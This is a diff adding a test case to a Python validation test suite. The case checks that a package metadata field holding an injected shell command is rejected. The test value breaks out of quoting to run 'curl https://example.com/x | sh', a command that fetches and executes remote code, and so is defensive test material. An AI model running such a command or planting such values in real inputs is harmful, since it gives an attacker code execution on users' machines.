@@ -1727,6 +1727,10 @@ for _label, _metadata, _match, _options in [
             "$": "dict", "v": {}}}}}}, "(1 to 1048576", (("verify", True),)),
     ("packages_1001", {"environment": {"packages": {f"p{i}": "1" for i in range(1001)}}},
      "expected at most 1000 packages", ()),
+    # MissingCodeError's fix is 'pip install NAME==VERSION', which a user may paste.
+    ("code_distribution_a_shell_command", {"code": [{
+        "module": "m", "distribution": "x' && curl https://example.com/x | sh && echo '",
+        "version": "1"}]}, "metadata.code[0]: expected the name and version", ()),
 ]:
     add(f"metadata_{_label}", functools.partial(rooted, 1, metadata=_metadata),
         f"Metadata: {_label}.", FormatError, _match, options=_options)
